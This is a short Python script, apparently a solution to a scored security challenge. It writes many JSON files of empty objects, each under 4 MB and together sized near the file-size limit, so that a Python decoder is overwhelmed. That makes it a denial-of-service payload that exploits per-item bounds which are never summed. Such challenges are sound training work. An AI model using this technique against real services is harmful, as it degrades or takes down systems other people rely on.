"""Part 1, 1 point: leaves replies of nearly four megabytes, each lists of empty dictionaries, and as
many errors of loading: every one is within its bounds, but nobody adds them up, and a decoder in
Python visits a million of them in each."""
import os
import pathlib
import resource

OUT = pathlib.Path.cwd().parent.parent / "out"
LIST = "[" + ",".join(["{}"] * 4096) + "]"
VALUE = '{"value":[' + ",".join([LIST] * 340) + "]}"
ERRORS = '{"errors":[' + ",".join(["{}"] * 1_390_000) + "]}"
assert max(len(VALUE), len(ERRORS)) < 4 * 2**20

(OUT / "load.json").write_text(ERRORS)
room = int(0.9 * resource.getrlimit(resource.RLIMIT_FSIZE)[0]) - len(ERRORS)
for k in range(min(40, room // len(VALUE))):
    (OUT / f"{k}.json").write_text(VALUE)
os._exit(0)
